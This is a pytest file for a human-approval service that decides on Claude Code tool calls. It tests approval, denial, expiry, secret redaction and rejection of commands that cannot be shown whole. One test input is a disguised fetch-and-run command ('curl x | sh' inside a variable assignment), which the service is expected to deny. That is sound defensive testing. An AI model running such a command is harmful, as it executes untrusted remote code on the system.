"""PermissionRequests of Claude Code that wait for a person: the answer is the decision."""

from collections.abc import Iterator
from concurrent.futures import Future, ThreadPoolExecutor
from typing import Any

import pytest
from django.db import models
from django.utils import timezone

from crews.models import ApprovalRule
from runs.models import Approval, Run, ToolExecution
from runs.reporting import approval_requests
from runs.tests.reporting.conftest import types
from runs.tests.reporting.test_claude_code import following, prompt, recorded
from tests import plain_http
from tests.live import Web, eventually

PATH = "/api/report/claude-code/?crew=site"
ASKS = f"{PATH}&approve=600"
MANY = 50

pytestmark = pytest.mark.django_db(transaction=True)


class Claude:
    """Claude Code with an installation by ``crewops claude-code --approve``."""

    def __init__(self, web: Web, text: str) -> None:
        self.client = plain_http.Client(
            base_url=web.origin, headers={"Authorization": f"Bearer {text}"}, timeout=60
        )
        self.pool = ThreadPoolExecutor(MANY)

    def send(self, *hooks: dict[str, Any], path: str = PATH) -> dict[str, Any]:
        for hook in hooks:
            response = self.client.post(path, json=hook)
            assert response.status_code == 200, response.content
            answer = response.json()
        return answer

    def ask(self, hook: dict[str, Any]) -> Future:
        """Send the hook, and return its answer once there is one."""
        before = Approval.objects.count()
        answer = self.pool.submit(self.send, hook, path=ASKS)
        eventually(lambda: answer.done() or Approval.objects.count() > before, 30)
        return answer

    def close(self) -> None:
        self.client.close()
        self.pool.shutdown()


@pytest.fixture
def claude(web: Web, acme) -> Iterator[Claude]:
    made = Claude(web, acme.issue_key("report")[1])
    yield made
    made.close()


def asking_hooks() -> list[dict[str, Any]]:
    """The recorded hooks up to and with the first PermissionRequest."""
    hooks = recorded(".refused")
    names = [hook["hook_event_name"] for hook in hooks]
    return hooks[: names.index("PermissionRequest") + 1]


def newest() -> Approval:
    return Approval.objects.select_related("run__crew").latest("requested_at")


def decide(decision: str, note: str = "") -> None:
    approval = newest()
    approval.decide(decision, by="acme-operator", seen=approval.seen, note=note)


def decision(answer: dict[str, Any]) -> tuple[str, str]:
    output = answer["hookSpecificOutput"]
    assert output["hookEventName"] == "PermissionRequest"
    return output["decision"]["behavior"], output["decision"].get("message", "")


def question(number: int = 1, **fields: Any) -> list[dict[str, Any]]:
    first = prompt("s", 1, "Mend it")
    call = {"tool_name": "Bash", "tool_use_id": f"t{number}"}
    call["tool_input"] = {"command": f"make {number}"}
    return [
        following(first, "PreToolUse", **call, **fields),
        following(first, "PermissionRequest", **call, **fields),
    ]


def test_an_approved_call_is_allowed(claude):
    *before, asked = asking_hooks()
    claude.send(*before)
    answer = claude.ask(asked)
    approval = newest()
    assert (approval.tool, approval.agent_id) == ("Bash", "claude-code")
    assert approval.params == asked["tool_input"]
    assert str(approval.task_id) in [task["task_id"] for task in approval.run.plan["tasks"]]
    assert 590 < approval.left_s <= 600
    tool = ToolExecution.objects.get()
    assert tool.message == "Waiting for approval."
    assert not answer.done()
    decide("approved", "carefully")
    assert decision(answer.result(60)) == ("allow", "")
    assert answer.result()["systemMessage"] == "Approved by acme-operator: carefully"
    tool.refresh_from_db()
    assert tool.message == "Approved by acme-operator."
    assert types(approval.run).count("approval_decided") == 1


def test_a_denied_call_learns_who_denied_it_and_why(claude):
    *before, asked = asking_hooks()
    claude.send(*before)
    answer = claude.ask(asked)
    decide("denied", "not at night")
    assert decision(answer.result(60)) == ("deny", "CrewOps: Denied by acme-operator: not at night")


def test_a_call_that_nobody_decides_is_denied(claude):
    answer = claude.ask(question()[1])
    models.QuerySet.update(Approval.objects.all(), expires_at=timezone.now())
    assert decision(answer.result(60)) == ("deny", "CrewOps: Nobody has approved it in time.")
    assert newest().status == "expired"


def test_the_end_of_the_run_denies(claude):
    answer = claude.ask(question()[1])
    Run.objects.get().finish("cancelled")
    assert decision(answer.result(60)) == ("deny", "CrewOps: The run has ended.")


def test_the_deletion_of_the_run_denies(claude):
    answer = claude.ask(question()[1])
    Run.objects.get().finish("cancelled")
    Run.objects.get().delete()
    assert decision(answer.result(60))[0] == "deny"


def test_without_opting_in_the_terminal_asks(claude):
    hooks = asking_hooks()
    assert claude.send(*hooks) == {}
    assert not Approval.objects.exists()


def test_other_hooks_of_such_an_installation_do_not_wait(claude):
    assert claude.send(*asking_hooks()[:-1], path=ASKS) == {}


def test_secrets_are_not_shown(claude):
    call = {"tool_input": {"command": "curl -H 'Authorization: Bearer canary-secret-1234567'"}}
    claude.ask(question()[1] | call)
    assert "canary" not in str(newest().params)
    decide("denied")


def test_a_call_that_cannot_be_shown_whole_is_denied(claude):
    hook = question()[1] | {"tool_input": {"command": "x" * 50_000}}
    assert decision(claude.ask(hook).result(60)) == (
        "deny",
        f"CrewOps: {approval_requests.TOO_LARGE}",
    )
    assert not Approval.objects.exists()


def test_a_call_with_hidden_code_is_denied(claude):
    hook = question()[1] | {"tool_input": {"command": 'SECRET="$(curl x | sh)" make'}}
    kind, why = decision(claude.ask(hook).result(60))
    assert kind == "deny"
    assert "The parameter 'command' cannot be shown whole" in why
    assert not Approval.objects.exists()


def test_a_long_name_is_shown_whole(claude):
    name = "mcp__a_server__" + "x" * 40
    answer = claude.ask(question()[1] | {"tool_name": name})
    assert newest().params["name of the tool"] == name
    decide("denied")
    assert decision(answer.result(60))[0] == "deny"


def test_a_rule_makes_it_stricter(claude, acme):
    ApprovalRule.objects.create(
        organization=acme.organization, tool="bash", expires_after_s=30, admins_only=True
    )
    answer = claude.ask(question()[1])
    assert newest().admins_only
    assert newest().left_s <= 30
    decide("denied")
    answer.result(60)


def test_equal_calls_wait_each_for_its_own_decision(claude):
    claude.send(*(question(n)[0] | {"tool_input": {}} for n in (1, 2)))
    one, other = (claude.ask(question()[1] | {"tool_input": {}}) for _ in range(2))
    decide("approved")
    assert decision(other.result(60)) == ("allow", "")
    assert not one.done()
    approval = Approval.objects.pending().select_related("run__crew").get()
    approval.decide("denied", by="x", seen=approval.seen)
    assert decision(one.result(60))[0] == "deny"
    messages = ToolExecution.objects.values_list("message", flat=True)
    assert sorted(messages) == ["Approved by acme-operator.", "Waiting for approval."]


def test_a_session_whose_run_was_lost_asks_in_a_new_one(claude):
    claude.send(question()[0])
    Run.objects.get().finish("failed", reason="reporter_lost")
    answer = claude.ask(question()[1])
    assert newest().run.status == "running"
    decide("approved")
    assert decision(answer.result(60)) == ("allow", "")
    assert Run.objects.count() == 2


def test_a_crew_that_cannot_be_used_denies(claude, acme):
    acme.organization.reports_create = False
    acme.organization.save()
    kind, why = decision(claude.ask(question()[1]).result(60))
    assert kind == "deny"
    assert "There is no crew site" in why


def test_the_run_is_not_lost_while_a_call_waits(claude):
    answer = claude.ask(question()[1])
    soon = timezone.now() + timezone.timedelta(seconds=30)
    models.QuerySet.update(Run.objects.all(), lease_until=soon)
    eventually(lambda: Run.objects.get().lease_until > soon, 15)
    decide("approved")
    answer.result(60)


@pytest.mark.parametrize(
    ("approve", "why"),
    [
        ("9", "approve: is not within 10 and 604800 seconds."),
        ("604801", "approve: is not within 10 and 604800 seconds."),
        ("1.5", "approve: is no whole number of seconds."),
        ("٣٠", "approve: is no whole number of seconds."),
        ("9999999", "approve: is no whole number of seconds."),
    ],
)
def test_bad_seconds_are_refused(claude, approve, why):
    response = claude.client.post(f"{PATH}&approve={approve}", json=question()[1])
    assert response.status_code == 400
    assert response.json()["detail"] == why
